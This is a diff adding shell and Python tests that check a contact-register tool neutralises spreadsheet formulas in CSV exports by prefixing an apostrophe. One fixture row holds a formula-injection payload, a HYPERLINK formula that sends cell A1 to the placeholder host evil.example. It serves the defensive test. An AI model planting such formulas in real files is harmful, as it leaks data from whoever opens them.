@@ -174,6 +174,94 @@ check_err "it names the file, the row, the field and the form" \
 check "import into an unknown register exits 64" 64 ctcgw import contcts "$TMP/contacts.csv"
 check "import of a missing file fails" 66 ctcgw import contacts "$TMP/absent.csv"
 
+# --- formulas: written for spreadsheets after an apostrophe, kept as sent ----
+# (ctcgw(8), CSV AND SPREADSHEETS)
+cat >"$TMP/formulas.csv" <<'EOF'
+Entity,Name,Email,Title,Office,Phone
+KZ,Formula One,formula.one@mfa.example.kz,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",@SUM(A1:A9),+7 727 123 4567
+KZ,-Formula Two,formula.two@mfa.example.kz,'quoted',''=1+1,
+EOF
+check "import values that look like formulas" 0 ctcgw import contacts "$TMP/formulas.csv"
+check_out "both of them" 'imported 2 records'
+
+cat >"$TMP/cells.py" <<'EOF'
+import csv, sqlite3, sys
+
+COLUMNS = ['entity', 'name', 'email', 'title', 'office', 'phone']
+
+def register(db):
+    """The columns of the contacts that a CSV import writes, by email."""
+    con = sqlite3.connect(db)
+    rows = con.execute('SELECT ' + ', '.join(COLUMNS) + ' FROM contacts ORDER BY email')
+    return [tuple(r) for r in rows]
+
+def values(db, email):
+    con = sqlite3.connect(db)
+    return con.execute("SELECT title || '|' || office || '|' || coalesce(phone, '')"
+                       " FROM contacts WHERE email = ?", (email,)).fetchone()[0]
+
+def cells(path):
+    with open(path, newline='', encoding='utf-8') as f:
+        return list(csv.DictReader(f))
+
+what = sys.argv[1]
+if what == 'value':
+    sys.exit(0 if values(sys.argv[2], sys.argv[3]) == sys.argv[4] else 1)
+if what == 'no-formula':
+    bad = [v for row in cells(sys.argv[2]) for v in row.values() if v and v[0] in '=+-@\t\r']
+    print(bad)
+    sys.exit(1 if bad else 0)
+if what == 'cell':
+    row = [r for r in cells(sys.argv[2]) if r['email'] == sys.argv[3]][0]
+    sys.exit(0 if row[sys.argv[4]] == sys.argv[5] else 1)
+if what == 'columns':
+    with open(sys.argv[3], 'w', newline='', encoding='utf-8') as f:
+        out = csv.writer(f)
+        out.writerow(COLUMNS)
+        for row in cells(sys.argv[2]):
+            out.writerow([row[c] for c in COLUMNS])
+if what == 'same':
+    a, b = register(sys.argv[2]), register(sys.argv[3])
+    print(a, b, sep='\n')
+    sys.exit(0 if a == b else 1)
+EOF
+cells () {
+    python3 "$TMP/cells.py" "$@"
+}
+check_true "the register keeps the formula as sent" cells value "$TMP/db.sqlite" \
+    formula.one@mfa.example.kz '=HYPERLINK("http://evil.example/?x="&A1,"Click")|@SUM(A1:A9)|+7 727 123 4567'
+check_true "and the values that begin with an apostrophe" cells value "$TMP/db.sqlite" \
+    formula.two@mfa.example.kz "'quoted'|'=1+1|"
+check "export contacts with formulas" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
+check_true "no cell of the export begins with a formula" cells no-formula "$TMP/formulas-out.csv"
+check_true "the formula is written after an apostrophe" cells cell "$TMP/formulas-out.csv" \
+    formula.one@mfa.example.kz title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+check_true "so is a telephone number" cells cell "$TMP/formulas-out.csv" \
+    formula.one@mfa.example.kz phone "'+7 727 123 4567"
+check_true "a value that begins with an apostrophe is written as it is" cells cell \
+    "$TMP/formulas-out.csv" formula.two@mfa.example.kz title "'quoted'"
+check_true "unless a formula follows its apostrophe" cells cell \
+    "$TMP/formulas-out.csv" formula.two@mfa.example.kz office "''=1+1"
+check_true "the export's form columns are taken for an import" \
+    cells columns "$TMP/formulas-out.csv" "$TMP/round-trip.csv"
+sed "s|$TMP/db.sqlite|$TMP/round-trip.sqlite|" "$CONF" >"$TMP/round-trip.conf"
+check "init a second database" 0 "$CTCGW" -c "$TMP/round-trip.conf" init
+check "import the export into it" 0 "$CTCGW" -c "$TMP/round-trip.conf" import contacts "$TMP/round-trip.csv"
+check_true "every value comes back as it was in the register" \
+    cells same "$TMP/db.sqlite" "$TMP/round-trip.sqlite"
+if command -v sqlite3 >/dev/null; then
+    # A tab or a carriage return before a formula, which the register's
+    # checks of text never file, is written after an apostrophe too.
+    sqlite3 "$TMP/db.sqlite" "UPDATE contacts SET title = char(9) || '=1+1',
+        office = char(13) || '@x' WHERE email = 'formula.two@mfa.example.kz'"
+    check "export contacts with a tab and a CR" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
+    check_true "no cell begins with a tab or a CR" cells no-formula "$TMP/formulas-out.csv"
+    check_true "the tab follows the apostrophe" cells cell "$TMP/formulas-out.csv" \
+        formula.two@mfa.example.kz title "$(printf "'\t=1+1")"
+    check_true "so does the CR" cells cell "$TMP/formulas-out.csv" \
+        formula.two@mfa.example.kz office "$(printf "'\r@x")"
+fi
+
 # --- import entities and groups: what staff add to the reference data --------
 cat >"$TMP/entities.csv" <<'EOF'
 Code,Name,Kind,Active
